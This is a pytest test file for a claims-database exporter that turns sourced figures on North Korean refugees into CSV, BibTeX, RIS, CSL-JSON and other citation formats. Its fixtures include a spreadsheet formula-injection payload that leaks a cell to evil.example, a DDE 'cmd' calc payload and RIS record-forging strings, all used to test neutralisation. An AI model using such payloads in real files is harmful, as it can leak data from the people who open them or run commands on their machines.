"""Exports read back with a real parser of each format: counts, keys, URLs and dates; CLI and app calls.

Issue 16: every test that exports a table runs on both backends (`backend_name`): the table is a CSV
file or a PostgreSQL database holding the same cells (`table_at`), read through `backend.read`, and
the bundled table is the default file or a database it is loaded into (`bundled_at`); the command
line is given the database with --data. File-only, and why:
- the tests that read no table (the formats table, file names, `spreadsheet_safe`, a carriage return
  or line break in a hand-made row, BibTeX escaping of hand-made rows, the README and the style's
  licence): there is no backend to choose;
- test_cli_a_file_without_valid_claims_is_one_line: its point is a missing file ("file not found");
- test_the_readme_example_is_what_the_command_prints: the README's command, as written, reads the
  bundled file.
"""
from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import bibtexparser
import jsonschema
import pytest
import rispy

from claims import backend, load_claims, pgstore
from claims.cli import main
from claims.export import (
    CSV_COLUMNS, FORMATS, ExportError, cite_claim, export_bytes, export_claim, export_filename, spreadsheet_safe,
)
from claims.filters import Filters, filter_claims
from claims.paths import DATA_DIR
from conftest import claim

ROOT = Path(__file__).resolve().parent.parent
SCHEMA = json.loads((ROOT / "tests" / "schemas" / "csl-data.json").read_text(encoding="utf-8"))
TAIPEI = "http://www.taipeitimes.com/News/front/archives/2005/12/10/2003283761"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for sources")'

ROWS = [
    claim(1, source_title="North Korean sex slaves flooding China: US official", url=TAIPEI, page="1",
          accessed="2026-01-10", quote="Thousands of North Korean refugees are working as sex slaves.",
          claimant="John Miller", attributed_to="charities", subject="refugees", value="thousands"),
    claim(2, source_title="North Korean sex slaves flooding China: US official", url=TAIPEI, page="3",
          accessed="2026-01-12", value="between 30 percent and half", metric="share", unit="percent"),
    claim(3, publisher="Human Rights Watch", source_title="The Invisible Exodus", published="2002-11-19",
          url="https://www.hrw.org/report/2002/11/19/invisible-exodus", value="10,000 to 300,000 people"),
    claim(4, publisher="Virginia Journal of International Law", source_title="Trafficked", published="2010-12",
          author="Jane Kim;Yoon Hee-soon", url="http://www.northkoreanow.org/trafficked", accessed="2025-03",
          value="about 70 percent", metric="share"),
    claim(5, publisher="stopnkcrimes.org", source_title="=1+1 summary", published="2012",
          url="http://stopnkcrimes.org/bbs/board.php?bo_table=human&wr_id=67", quote=HYPERLINK,
          subject="+SUM(A1:A9)", claimant="@cmd", attributed_to="-2+3", notes="\tcmd|' /C calc'!A0",
          value="5,000 people"),
]
SOURCES = 4


@pytest.fixture
def table_loc(table_at):
    """ROWS on the test's backend: a claims file, or a database holding the same cells."""
    return table_at(ROWS)


@pytest.fixture
def table(table_loc):
    read = backend.read(table_loc)
    frame = read.claims
    assert read.problems == [] and frame.attrs["problems"] == [] and len(frame) == 5
    return frame


@pytest.fixture(scope="module")
def bundled_file():
    return load_claims()


@pytest.fixture
def bundled_at(backend_name, request):
    """The bundled table on the test's backend: None (the default, data/claims.csv, as the command line
    reads it without --data), or a database it is loaded into with its metrics and reviews."""
    if backend_name == "csv":
        return None
    url = request.getfixturevalue("pg_url")
    pgstore.load_file(DATA_DIR / "claims.csv", url, replace=True)  # replace: a test may hold `table` too
    return url


@pytest.fixture
def bundled(bundled_at, bundled_file):
    return bundled_file if bundled_at is None else backend.read(bundled_at).claims


def data_args(loc) -> list[str]:
    """The command line's --data for a table's location (none for the default, the bundled file)."""
    return [] if loc is None else ["--data", str(loc)]


# --- the formats table and file names ---------------------------------------------------------------

def test_formats_name_label_extension_and_mime_type():
    assert list(FORMATS) == ["csv", "json", "csl-json", "bibtex", "ris", "markdown", "text", "claimreview"]
    assert {f: (FORMATS[f].extension, FORMATS[f].mime) for f in FORMATS} == {
        "csv": ("csv", "text/csv"), "json": ("json", "application/json"),
        "csl-json": ("json", "application/vnd.citationstyles.csl+json"), "bibtex": ("bib", "application/x-bibtex"),
        "ris": ("ris", "application/x-research-info-systems"), "markdown": ("md", "text/markdown"),
        "text": ("txt", "text/plain"), "claimreview": ("jsonld", "application/ld+json")}
    assert all(FORMATS[f].label for f in FORMATS)


def test_file_names():
    assert export_filename("bibtex") == "claims.bib"
    assert export_filename("csl-json", "taipeitimes-2005-share") == "taipeitimes-2005-share.csl.json"
    assert export_filename("ris", "a b/c") == "a-b-c.ris"


# --- CSV -----------------------------------------------------------------------------------------

def read_csv(data: bytes, **kw) -> list[list]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens it as UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), **kw))


def test_csv_one_row_per_claim_with_reading_and_citation(table):
    rows = read_csv(export_bytes(table, "csv"))
    assert rows[0] == list(CSV_COLUMNS)
    records = [dict(zip(rows[0], r)) for r in rows[1:]]
    assert [r["claim_id"] for r in records] == ["c1", "c2", "c3", "c4", "c5"]
    first = records[0]
    assert (first["low"], first["high"], first["unit"], first["kind"]) == ("2000", "10000", "person", "vague")
    assert (first["url"], first["accessed"], first["page"], first["source_key"]) == (
        TAIPEI, "2026-01-10", "1", "taipeitimes2005north")
    assert first["citation"] == ("North Korean sex slaves flooding China: US official. (2005, December 10). "
                                 f"Taipei Times, 1. {TAIPEI}")
    assert records[1]["citation"].endswith(f"Taipei Times, 3. {TAIPEI}")  # each claim keeps its own page
    assert records[3]["author"] == "Jane Kim;Yoon Hee-soon"


def test_csv_numbers_stay_numbers_and_text_is_quoted(table):
    rows = read_csv(export_bytes(table, "csv"), quoting=csv.QUOTE_NONNUMERIC)  # unquoted cells become floats
    low, high = CSV_COLUMNS.index("low"), CSV_COLUMNS.index("high")
    assert [(r[low], r[high]) for r in rows[1:]] == [(2000.0, 10000.0), (30.0, 50.0), (10000.0, 300000.0),
                                                     (70.0, 70.0), (5000.0, 5000.0)]
    assert all(isinstance(c, str) for r in rows[1:] for i, c in enumerate(r) if i not in (low, high))


def test_csv_neutralizes_formulas(table):
    rows = read_csv(export_bytes(table, "csv"))
    record = dict(zip(rows[0], rows[-1]))
    assert record["quote"] == "'" + HYPERLINK
    assert (record["subject"], record["claimant"], record["attributed_to"], record["source_title"]) == (
        "'+SUM(A1:A9)", "'@cmd", "'-2+3", "'=1+1 summary")
    for r in rows[1:]:
        for cell in r:
            assert cell.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell


def test_csv_neutralizes_a_carriage_return_cell():
    rows = read_csv(export_bytes([dict(claim(1, tags="\rtag"), low=1.0, high=2.0)], "csv"))
    assert dict(zip(rows[0], rows[1]))["tags"] == "'\rtag"


@pytest.mark.parametrize("text,safe", [
    ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("  =1", "'  =1"), ("a=1", "a=1"), ("", ""), ("30–50%", "30–50%"),
])
def test_spreadsheet_safe(text, safe):
    assert spreadsheet_safe(text) == safe


# --- JSON ---------------------------------------------------------------------------------------

def test_json_claims_with_reading_and_nested_source(table):
    claims = json.loads(export_bytes(table, "json"))
    assert [c["claim_id"] for c in claims] == ["c1", "c2", "c3", "c4", "c5"]
    assert claims[1]["reading"] == {"compact": "30–50%", "low": 30, "high": 50, "unit": "percent",
                                    "kind": "interval", "vague": []}
    assert claims[0]["source"] == {"key": "taipeitimes2005north", "type": "article-newspaper",
                                   "title": "North Korean sex slaves flooding China: US official",
                                   "publisher": "Taipei Times", "author": [], "published": "2005-12-10",
                                   "url": TAIPEI}
    assert claims[3]["source"]["author"] == [{"family": "Kim", "given": "Jane"},
                                             {"family": "Yoon", "given": "Hee-soon"}]
    assert claims[0]["accessed"] == "2026-01-10" and claims[2]["accessed"] is None
    assert claims[0]["citation"]["style"] == "apa"
    assert claims[4]["quote"] == HYPERLINK  # JSON is not a spreadsheet: text is kept exactly


# --- CSL-JSON --------------------------------------------------------------------------------------

def test_csl_json_is_valid_against_the_csl_schema(table, bundled):
    validator = jsonschema.Draft3Validator(SCHEMA)
    for frame in (table, bundled):
        items = json.loads(export_bytes(frame, "csl-json"))
        assert list(validator.iter_errors(items)) == []
    assert list(validator.iter_errors([{"id": "x", "type": "newspaper", "titel": "T"}]))  # the schema bites


def test_csl_json_one_item_per_source(table):
    items = json.loads(export_bytes(table, "csl-json"))
    assert [i["id"] for i in items] == sorted(i["id"] for i in items)
    assert len(items) == SOURCES
    taipei = next(i for i in items if i["id"] == "taipeitimes2005north")
    assert taipei["page"] == "1, 3"                                   # the pages of its claims
    assert taipei["accessed"] == {"date-parts": [[2026, 1, 12]]}        # the latest accessed
    assert taipei["issued"] == {"date-parts": [[2005, 12, 10]]}
    assert taipei["URL"] == TAIPEI and taipei["container-title"] == "Taipei Times"
    journal = next(i for i in items if i["type"] == "article-journal")
    assert journal["issued"] == {"date-parts": [[2010, 12]]} and journal["accessed"] == {"date-parts": [[2025, 3]]}
    report = next(i for i in items if i["type"] == "report")
    assert report["author"] == [{"literal": "Human Rights Watch"}]


def test_csl_json_renders_with_citeproc_py(table):
    from citeproc import Citation, CitationItem, CitationStylesBibliography, CitationStylesStyle, formatter
    from citeproc.source.json import CiteProcJSON

    items = json.loads(export_bytes(table, "csl-json"))
    style = CitationStylesStyle(str(ROOT / "claims" / "csl" / "apa.csl"), validate=False)
    bibliography = CitationStylesBibliography(style, CiteProcJSON(items), formatter.plain)
    for item in items:
        bibliography.register(Citation([CitationItem(item["id"])]))
    rendered = [str(r) for r in bibliography.bibliography()]
    assert len(rendered) == SOURCES
    for item in items:
        year = str(item["issued"]["date-parts"][0][0])
        assert any(item["URL"] in r and f"({year}" in r for r in rendered), item["id"]


# --- BibTeX ---------------------------------------------------------------------------------------

def test_bibtex_reads_back_one_entry_per_source(table):
    library = bibtexparser.parse_string(export_bytes(table, "bibtex").decode("utf-8"))
    assert library.failed_blocks == []
    entries = {e.key: {f.key: f.value for f in e.fields} for e in library.entries}
    assert len(entries) == SOURCES
    assert {e.key: e.entry_type for e in library.entries} == {
        "taipeitimes2005north": "article", "humanrightswatch2002invisible": "techreport",
        "kim2010trafficked": "article", "stopnkcrimesorg2012summary": "misc"}
    taipei = entries["taipeitimes2005north"]
    assert (taipei["url"], taipei["urldate"], taipei["year"], taipei["month"], taipei["date"]) == (
        TAIPEI, "2026-01-12", "2005", "dec", "2005-12-10")
    assert taipei["title"] == "{North Korean sex slaves flooding China: US official}"  # braced: keeps capitals
    assert taipei["journal"] == "Taipei Times" and taipei["pages"] == "1, 3"
    assert entries["humanrightswatch2002invisible"]["author"] == "{Human Rights Watch}"
    assert entries["humanrightswatch2002invisible"]["institution"] == "Human Rights Watch"
    assert entries["kim2010trafficked"]["author"] == "Kim, Jane and Yoon, Hee-soon"
    assert "urldate" not in entries["humanrightswatch2002invisible"]
    summary = entries["stopnkcrimesorg2012summary"]
    assert summary["url"] == "http://stopnkcrimes.org/bbs/board.php?bo_table=human&wr_id=67"
    assert summary["howpublished"] == "stopnkcrimes.org" and summary["year"] == "2012"


def test_bibtex_escapes_tex_specials():
    frame = [dict(claim(1, source_title="50% of #1 & $5_000 {x}", url="https://x.org/a_b%20"), low=1.0, high=2.0)]
    library = bibtexparser.parse_string(export_bytes(frame, "bibtex").decode("utf-8"))
    fields = {f.key: f.value for f in library.entries[0].fields}
    assert fields["title"] == r"{50\% of \#1 \& \$5\_000 \textbraceleft{}x\textbraceright{}}"
    assert fields["url"] == "https://x.org/a_b%20"


@pytest.mark.parametrize("title", ["one } brace", "one { brace", "}{ reversed", "a \\ b"])
def test_bibtex_a_lone_brace_or_backslash_in_a_title_keeps_the_entry(title):
    frame = [dict(claim(1, source_title=title, url="https://x.org/a"), low=1.0, high=2.0)]
    library = bibtexparser.parse_string(export_bytes(frame, "bibtex").decode("utf-8"))
    assert library.failed_blocks == [] and len(library.entries) == 1
    fields = {f.key: f.value for f in library.entries[0].fields}
    assert fields["url"] == "https://x.org/a"
    assert braces_balanced_as_bibtex_counts(fields["title"])


def braces_balanced_as_bibtex_counts(value: str) -> bool:
    """BibTeX counts every brace, escaped or not: '\\}' still closes a group."""
    depth = 0
    for ch in value:
        depth += {"{": 1, "}": -1}.get(ch, 0)
        if depth < 0:
            return False
    return depth == 0


def test_bibtex_a_url_ending_in_a_backslash_keeps_the_entry():
    frame = [dict(claim(1, url="https://x.org/a\\"), low=1.0, high=2.0)]
    library = bibtexparser.parse_string(export_bytes(frame, "bibtex").decode("utf-8"))
    assert library.failed_blocks == [] and len(library.entries) == 1
    fields = {f.key: f.value for f in library.entries[0].fields}
    assert fields["url"] == "https://x.org/a%5C" and "title" in fields


def test_bibtex_of_the_bundled_table_parses(bundled):
    library = bibtexparser.parse_string(export_bytes(bundled, "bibtex").decode("utf-8"))
    assert library.failed_blocks == [] and len(library.entries) == 38
    urls = {f.value for e in library.entries for f in e.fields if f.key == "url"}
    assert urls == set(bundled["url"]) - {""}


# --- RIS -----------------------------------------------------------------------------------------

def test_ris_reads_back_one_record_per_source(table):
    text = export_bytes(table, "ris").decode("utf-8")
    assert text.startswith("TY  - ") and not re.search(r"^\d+\.$", text, re.M)  # no counter lines
    records = {r["id"]: r for r in rispy.loads(text)}
    assert len(records) == SOURCES
    assert {k: r["type_of_reference"] for k, r in records.items()} == {
        "taipeitimes2005north": "NEWS", "humanrightswatch2002invisible": "RPRT", "kim2010trafficked": "JOUR",
        "stopnkcrimesorg2012summary": "ELEC"}
    taipei = records["taipeitimes2005north"]
    assert (taipei["urls"], taipei["access_date"], taipei["date"], taipei["year"]) == (
        [TAIPEI], "2026/01/12", "2005/12/10", "2005")
    assert taipei["secondary_title"] == "Taipei Times"
    assert records["kim2010trafficked"]["authors"] == ["Kim, Jane", "Yoon, Hee-soon"]
    assert records["kim2010trafficked"]["access_date"] == "2025/03"
    assert records["humanrightswatch2002invisible"]["authors"] == ["Human Rights Watch,"]
    assert records["humanrightswatch2002invisible"]["publisher"] == "Human Rights Watch"
    known = set(rispy.TAG_KEY_MAPPING.values())
    assert all(set(r) <= known for r in records.values())  # rispy only warns on unknown keys


# --- Markdown and text ---------------------------------------------------------------------------

@pytest.mark.parametrize("brk", ["\n", "\r\n", "\r", "\u2028"])
def test_ris_a_line_break_in_a_field_cannot_forge_a_record(brk):
    title = brk.join(["Title", "ER  - injected", "TY  - JOUR", "T1  - forged"])
    frame = [dict(claim(1, source_title=title, publisher="Press" + brk + "ER  - "), low=1.0, high=2.0)]
    records = rispy.loads(export_bytes(frame, "ris").decode("utf-8"))
    assert len(records) == 1
    assert records[0]["title"] == "Title ER  - injected TY  - JOUR T1  - forged"


def test_text_golden(table):
    text = export_bytes(table[table["claim_id"] == "c1"], "text", keys_from=table).decode("utf-8")
    assert text == (
        "c1\n"
        "  Figure: “thousands”, read as 2,000–10,000 people (vague: thousands)\n"
        "  Metric: crossers\n"
        "  Of: refugees\n"
        "  Said by: John Miller\n"
        "  Produced by: charities\n"
        "  Quote: “Thousands of North Korean refugees are working as sex slaves.” (p. 1)\n"
        "  Accessed: 2026-01-10\n"
        "  Reference (APA 7th edition): North Korean sex slaves flooding China: US official. (2005, December 10). "
        f"Taipei Times, 1. {TAIPEI}\n"
        "  Citation key: taipeitimes2005north\n")


def test_markdown_one_section_per_claim(table):
    text = export_bytes(table, "markdown").decode("utf-8")
    assert re.findall(r"^## (\S+)$", text, re.M) == ["c1", "c2", "c3", "c4", "c5"]
    assert "- **Figure:** “between 30 percent and half”, read as 30–50% (interval)" in text
    assert f"*Taipei Times*, 3. <{TAIPEI}>" in text
    assert "- **Quote:** “=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for sources\")”" in text
    assert "- **Said by:** @cmd" in text and "\\*" not in text.split("## c5")[0]
    assert text.count("- **Citation key:** `taipeitimes2005north`") == 2


# --- shared properties -------------------------------------------------------------------------------

CITING = [f for f in FORMATS if f != "claimreview"]
"""The formats that cite sources (claimreview publishes verdicts and has tests of its own: test_claimreview.py)."""


@pytest.mark.parametrize("fmt", CITING)
def test_exporting_twice_gives_the_same_bytes(table, fmt):
    assert export_bytes(table, fmt) == export_bytes(table.copy(), fmt)


@pytest.mark.parametrize("fmt", ["csl-json", "bibtex", "ris"])
def test_same_source_same_entry_whichever_claim_is_exported(table, fmt):
    one = export_bytes(table[table["claim_id"] == "c1"], fmt, keys_from=table)
    both = export_bytes(table[table["claim_id"].isin(["c1", "c2"])], fmt, keys_from=table)
    assert one.count(b"taipeitimes2005north") == both.count(b"taipeitimes2005north") == 1


def test_keys_do_not_depend_on_the_selection(bundled):
    whole = json.loads(export_bytes(bundled, "csl-json"))
    page156 = bundled[bundled["url"].str.endswith("page156.html")]
    alone = json.loads(export_bytes(page156, "csl-json", keys_from=bundled))
    assert [i["id"] for i in alone] == ["scarlatoiu2024addressingb"]
    assert alone[0] in whole


def test_bad_input_is_an_export_error(table):
    with pytest.raises(ExportError, match="unknown format 'docx'; choose one of csv, json, csl-json, bibtex, ris"):
        export_bytes(table, "docx")
    with pytest.raises(ExportError, match="unknown style 'chicago'; choose one of apa"):
        export_bytes(table, "text", style="chicago")
    with pytest.raises(ExportError, match="no claims to export"):
        export_bytes(table.iloc[0:0], "csv")
    with pytest.raises(ExportError, match="no claim with id 'nope'"):
        export_claim(table, "nope", "csv")


# --- for the dashboard: download buttons and "Cite this claim" ---------------------------------------

def test_a_metric_is_named_by_its_label_with_its_id_where_metrics_csv_gives_one(bundled):
    row = bundled[bundled["claim_id"] == "taipeitimes-2005-trafficked-share"].iloc[0]
    labels = {"trafficked_share": "Share of North Korean women in China who are trafficked"}
    assert "Metric: Share of North Korean women in China who are trafficked (trafficked_share)\n" in \
        cite_claim(row, keys_from=bundled, labels=labels)
    view = bundled[bundled["metric"].isin(["trafficked_share", "bride_price"])]
    text = export_bytes(view, "markdown", keys_from=bundled, labels=labels).decode()
    assert text.count("**Metric:** Share of North Korean women in China who are trafficked (trafficked\\_share)") \
        == (view["metric"] == "trafficked_share").sum()
    assert "**Metric:** bride\\_price" in text  # no label given: the id alone


def test_the_download_of_a_filtered_view_is_exactly_its_claims(bundled):
    view = filter_claims(bundled, Filters(publishers=("Taipei Times",), published_to="2005"))
    rows = read_csv(export_bytes(view, "csv", keys_from=bundled))
    assert [r[0] for r in rows[1:]] == list(view["claim_id"]) and len(view) == 7


def test_cite_this_claim_golden(bundled):
    row = bundled[bundled["claim_id"] == "taipeitimes-2005-trafficked-share"].iloc[0]
    assert cite_claim(row, keys_from=bundled) == (
        "Figure: “between 30 percent and half”, read as 30–50% (interval)\n"
        "Metric: trafficked_share\n"
        "Of: North Koreans who cross into China each year\n"
        "Place: China\n"
        "Period: 2005\n"
        "Said by: John Miller (US State Department Office to Monitor and Combat Trafficking in Persons)\n"
        "Produced by: charities and church groups working in the region\n"
        "Quote: “But he said charities and church groups working in the region estimate between 30 percent and "
        "half of the many thousands of North Koreans who cross into China every year are \"trafficking victims,\" "
        "forced or tricked into slavery.” (p. 1)\n"
        "Reference (APA 7th edition): North Korean sex slaves flooding China: US official. (2005, December 10). "
        f"Taipei Times, 1. {TAIPEI}\n"
        "Citation key: taipeitimes2005north")


def test_cite_this_claim_accepts_a_dict(table):
    text = cite_claim(table.to_dict("records")[3])
    assert "Reference (APA 7th edition): Kim, J., & Yoon, H.-S. (2010). Trafficked. Virginia Journal of " \
           "International Law. http://www.northkoreanow.org/trafficked" in text


@pytest.mark.parametrize("fmt", CITING)
def test_one_claim_in_each_format_keeps_its_whole_table_key(bundled, fmt):
    claim_id = bundled[bundled["url"].str.endswith("page156.html")]["claim_id"].iloc[0]
    data = export_claim(bundled, claim_id, fmt)
    assert b"scarlatoiu2024addressingb" in data
    if FORMATS[fmt].per == "claim":
        assert data.count(claim_id.encode()) == 1


# --- the command line ----------------------------------------------------------------------------------

def run(capsysbinary, *argv: str) -> tuple[int, bytes, str]:
    code = main(list(argv))
    out, err = capsysbinary.readouterr()
    return code, out, err.decode("utf-8")


def test_cli_writes_the_filtered_claims_to_stdout(bundled_at, bundled, capsysbinary):
    code, out, err = run(capsysbinary, *data_args(bundled_at), "export", "--format", "bibtex", "--publisher", "Taipei Times",
                         "--from", "2005", "--to", "2005-12")
    view = filter_claims(bundled, Filters(publishers=("Taipei Times",), published_from="2005",
                                          published_to="2005-12"))
    assert (code, err) == (0, "")
    assert out == export_bytes(view, "bibtex", keys_from=bundled)


def test_cli_text_export_names_metrics_by_their_metrics_csv_label(bundled_at, capsysbinary):
    code, out, _ = run(capsysbinary, *data_args(bundled_at), "export", "--format", "text", "--claim-id", "taipeitimes-2005-trafficked-share")
    assert code == 0
    assert b"  Metric: Share of North Koreans in China who are trafficked (most reports count women) (trafficked_share)\n" in out


@pytest.mark.parametrize("options,field,value", [
    (["--metric", "trafficked_share", "--metric", "bride_price"], "metrics", ("trafficked_share", "bride_price")),
    (["--claim-id", "hrw-2002-refugees-in-china"], "claim_ids", ("hrw-2002-refugees-in-china",)),
    (["--topic", "prices"], "topics", ("prices",)),
    (["--person", "Chun Ki-won"], "people", ("Chun Ki-won",)),
    (["--geography", "China"], "geographies", ("China",)),
    (["--basis", "interpreted"], "basis", "interpreted"),
    (["--search", "brokers"], "text", "brokers"),
])
def test_cli_filters_are_the_dashboards(bundled_at, bundled, capsysbinary, options, field, value):
    code, out, _ = run(capsysbinary, *data_args(bundled_at), "export", "--format", "json", *options)
    expected = filter_claims(bundled, Filters(**{field: value}))
    assert code == 0 and len(expected)
    assert [c["claim_id"] for c in json.loads(out)] == list(expected["claim_id"])


def test_cli_writes_a_file(table_loc, tmp_path, capsysbinary):
    out = tmp_path / "out.ris"
    code, stdout, err = run(capsysbinary, "--data", str(table_loc), "export", "--format", "ris", "-o", str(out))
    assert (code, stdout, err) == (0, b"", f"{out}: 5 claims as ris\n")
    assert len(rispy.loads(out.read_text(encoding="utf-8"))) == SOURCES


@pytest.mark.parametrize("argv,code,message", [
    (["export", "--format", "docx"], 2,
     "error: export: unknown format 'docx'; choose one of csv, json, csl-json, bibtex, ris, markdown, text, "
     "claimreview\n"),
    (["export"], 2, "error: export: say which format with --format: csv, json, csl-json, bibtex, ris, markdown, "
                    "text, claimreview\n"),
    (["export", "--format", "text", "--style", "chicago"], 2,
     "error: export: unknown style 'chicago'; choose one of apa\n"),
    (["export", "--format", "csv", "--from", "May 2005"], 2,
     "error: export: --from 'May 2005' is not a date; use YYYY, YYYY-MM or YYYY-MM-DD\n"),
    (["export", "--format", "csv", "--publisher", "Nobody", "--search", "x"], 1,
     "error: no claims match publishers 'Nobody'; search 'x' (of 69 in {data})\n"),
])
def test_cli_bad_input_is_one_line(bundled_at, capsysbinary, argv, code, message):
    from claims import paths
    data = paths.DEFAULT_CLAIMS if bundled_at is None else backend.shown(bundled_at)
    assert run(capsysbinary, *data_args(bundled_at), *argv) == (code, b"", message.format(data=data))


def test_cli_a_file_without_valid_claims_is_one_line(tmp_path, capsysbinary):
    missing = tmp_path / "none.csv"
    code, out, err = run(capsysbinary, "--data", str(missing), "export", "--format", "csv")
    assert (code, out) == (1, b"") and err.count("\n") == 1
    assert err.startswith(f"error: {missing} has no valid claims to export: ") and "file not found" in err


def test_cli_rows_with_problems_are_left_out_with_a_warning(table_at, capsysbinary):
    where = table_at(ROWS + [claim(6, published="2005-13-01")])
    code, out, err = run(capsysbinary, "--data", str(where), "export", "--format", "json")
    assert code == 0 and len(json.loads(out)) == 5
    assert err == f"warning: {backend.shown(where)}: 1 row with problems left out; see python -m claims validate\n"


def test_cli_cannot_write_is_one_line(table_loc, tmp_path, capsysbinary):
    code, _, err = run(capsysbinary, "--data", str(table_loc), "export", "--format", "csv", "-o",
                       str(tmp_path / "missing" / "out.csv"))
    assert code == 1 and err.startswith(f"error: cannot write {tmp_path / 'missing' / 'out.csv'}: ")
    assert err.count("\n") == 1


# --- documentation and licences ---------------------------------------------------------------------

def test_the_readme_documents_the_command_every_format_and_the_style_licence():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("## Exporting citations")[1].split("\n## ")[0]
    assert "python -m claims export" in section
    for fmt in FORMATS:
        assert f"`{fmt}`" in section, fmt
    assert "CC BY-SA" in section and "claims/csl/NOTICE.md" in section


def test_the_readme_example_is_what_the_command_prints(capsysbinary):
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("## Exporting citations")[1].split("\n## ")[0]
    example = re.search(r"```console\n\$ python -m claims (.*?)\n(.*?)```", section, re.S)
    argv = [a.strip('"') for a in re.findall(r'"[^"]*"|\S+', example.group(1))]
    code, out, _ = run(capsysbinary, *argv)
    assert (code, out.decode("utf-8")) == (0, example.group(2))


def test_the_shipped_style_keeps_its_rights_notice():
    style = (ROOT / "claims" / "csl" / "apa.csl").read_text(encoding="utf-8")
    assert '<rights license="http://creativecommons.org/licenses/by-sa/3.0/">' in style
    assert "CC BY-SA 3.0" in (ROOT / "claims" / "csl" / "NOTICE.md").read_text(encoding="utf-8")


def test_a_key_book_gives_the_same_exports_as_the_whole_table(bundled):
    from claims.export import cite_claim, export_bytes, export_claim, key_book
    table = bundled
    book = key_book(table)
    some = table[table["metric"] == "bride_price"]
    for fmt in ("bibtex", "ris", "csl-json", "markdown"):
        assert export_bytes(some, fmt, keys_from=book) == export_bytes(some, fmt, keys_from=table)
    claim = "taipeitimes-2005-trafficked-share"
    assert export_claim(table, claim, "bibtex", keys_from=book) == export_claim(table, claim, "bibtex")
    row = table[table["claim_id"] == claim].iloc[0]
    assert cite_claim(row, keys_from=book) == cite_claim(row, keys_from=table)
